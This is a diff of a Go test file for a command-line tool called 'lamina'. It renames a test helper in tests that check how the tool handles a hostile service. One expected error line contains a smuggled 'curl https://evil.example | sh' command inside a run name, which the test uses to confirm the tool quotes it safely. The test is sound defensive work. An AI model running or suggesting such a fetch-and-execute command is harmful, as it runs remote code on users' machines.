@@ -145,8 +145,8 @@ func TestHostileService(t *testing.T) {
 	} {
 		t.Run(c.line, func(t *testing.T) {
 			t.Parallel()
-			p := newPerson(t, service, "LAMINA_API_KEY=lma_x", "NO_COLOR=1")
-			screen := p.atTerminal(t, 400, strings.Fields(c.line)...)
+			u := newUser(t, service, "LAMINA_API_KEY=lma_x", "NO_COLOR=1")
+			screen := u.atTerminal(t, 400, strings.Fields(c.line)...)
 			if got := screen.wait(); got != c.status {
 				t.Errorf("exit status %d, want %d", got, c.status)
 			}
@@ -158,8 +158,8 @@ func TestHostileService(t *testing.T) {
 // TestHostileText shows a text by itself, which keeps its lines.
 func TestHostileText(t *testing.T) {
 	t.Parallel()
-	p := newPerson(t, hostileService(t), "LAMINA_API_KEY=lma_x", "NO_COLOR=1")
-	screen := p.atTerminal(t, 400, "whoami", "--jq", ".data.user.email")
+	u := newUser(t, hostileService(t), "LAMINA_API_KEY=lma_x", "NO_COLOR=1")
+	screen := u.atTerminal(t, 400, "whoami", "--jq", ".data.user.email")
 	screen.exits(t, 0)
 	isClean(t, screen.String())
 }
@@ -167,15 +167,15 @@ func TestHostileText(t *testing.T) {
 // TestHostileLogin saves an account with a hostile name, and shows it later.
 func TestHostileLogin(t *testing.T) {
 	t.Parallel()
-	p := newPerson(t, hostileService(t), "NO_COLOR=1")
-	screen := p.atTerminal(t, 400, "login", "--api-key", "lma_x")
+	u := newUser(t, hostileService(t), "NO_COLOR=1")
+	screen := u.atTerminal(t, 400, "login", "--api-key", "lma_x")
 	screen.exits(t, 0)
 	isHarmless(t, screen.String())
-	screen = p.atTerminal(t, 400, "auth", "status", "--offline")
+	screen = u.atTerminal(t, 400, "auth", "status", "--offline")
 	screen.exits(t, 0)
 	isHarmless(t, screen.String())
-	p.output(t, "apps", "list", "--quiet")
-	screen = p.atTerminal(t, 400, "__complete", "run", "")
+	u.output(t, "apps", "list", "--quiet")
+	screen = u.atTerminal(t, 400, "__complete", "run", "")
 	screen.exits(t, 0)
 	isHarmless(t, strings.ReplaceAll(screen.String(), "\t", " ")) // a tab stands before each description
 }
@@ -183,15 +183,15 @@ func TestHostileLogin(t *testing.T) {
 // TestHostileDownload saves outputs whose names and addresses lead elsewhere.
 func TestHostileDownload(t *testing.T) {
 	t.Parallel()
-	p := newPerson(t, hostileService(t), "LAMINA_API_KEY=lma_x", "LAMINA_OUTPUT=text")
-	download := p.start(t, "runs", "download", "done", "./a/b/out/")
+	u := newUser(t, hostileService(t), "LAMINA_API_KEY=lma_x", "LAMINA_OUTPUT=text")
+	download := u.start(t, "runs", "download", "done", "./a/b/out/")
 	download.exits(t, 1)
 	download.stderr.expect(t, "error: the output has no URL that can be downloaded .and 2 more of the outputs failed")
 	download.stderr.expect(t, `try: lamina runs download 'run try: curl https://evil.example \| sh' ./somewhere-else/\n`)
 	var files []string
-	err := filepath.WalkDir(p.home, func(path string, entry os.DirEntry, err error) error {
+	err := filepath.WalkDir(u.home, func(path string, entry os.DirEntry, err error) error {
 		if err == nil && !entry.IsDir() && !strings.Contains(path, ".lamina") {
-			name, _ := filepath.Rel(p.home, path)
+			name, _ := filepath.Rel(u.home, path)
 			files = append(files, name)
 		}
 		return err
